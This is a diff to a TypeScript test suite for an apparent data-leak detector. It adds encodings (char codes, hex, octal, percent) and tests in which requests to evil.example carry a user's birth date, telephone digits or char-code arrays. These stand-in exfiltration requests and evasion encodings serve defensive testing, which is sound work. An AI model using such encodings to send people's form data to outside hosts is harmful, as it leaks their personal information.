@@ -18,6 +18,10 @@ const ways: readonly ((text: string) => string)[] = [
   (text) => JSON.stringify({ a: { b: [text] } }),
   (text) => JSON.stringify(JSON.stringify({ text })),
   (text) => String(new URLSearchParams({ text })),
+  (text) => [...text].map((letter) => letter.charCodeAt(0)).join(','),
+  (text) => [...text].map((letter) => `=${letter.charCodeAt(0).toString(16)}`).join(''),
+  (text) => [...text].map((letter) => `0x${letter.charCodeAt(0).toString(16)}`).join(' '),
+  (text) => [...text].map((letter) => `\\${letter.charCodeAt(0).toString(8)}`).join(''),
   (text) => text.replaceAll(/./gsu, (letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`),
 ];
 
@@ -101,4 +105,19 @@ it.each([
   judge.setOrigin(site);
   judge.addAnswer('1990-03-12', true);
   expect(judge.isHeld(request('https://evil.example/c', `born=${written}`, 'Fetch'))).toBe(true);
+});
+
+it('finds seven digits of a telephone number, wherever they stand in it', () => {
+  const digits = '442079460958';
+  const judge = createFillJudge();
+  judge.setOrigin(site);
+  judge.addAnswer('+44 20 7946 0958', true);
+  const parts = Array.from({ length: digits.length - 6 }, (_, at) => digits.slice(at, at + 7));
+  expect(parts.filter((part) => !judge.isHeld(request(`https://evil.example/c?d=${part}`, '', 'Image')))).toEqual([]);
+  expect(judge.isHeld(request('https://cdn.example/a.png?v=7941958', '', 'Image'))).toBe(false);
+});
+
+it('finds one whose characters are the numbers of a list', () => {
+  const body = JSON.stringify({ kind: 'metric', d: Array.from(answer, (letter) => letter.charCodeAt(0)) });
+  expect(aJudge().isHeld(request('https://evil.example/c', body, 'Fetch'))).toBe(true);
 });
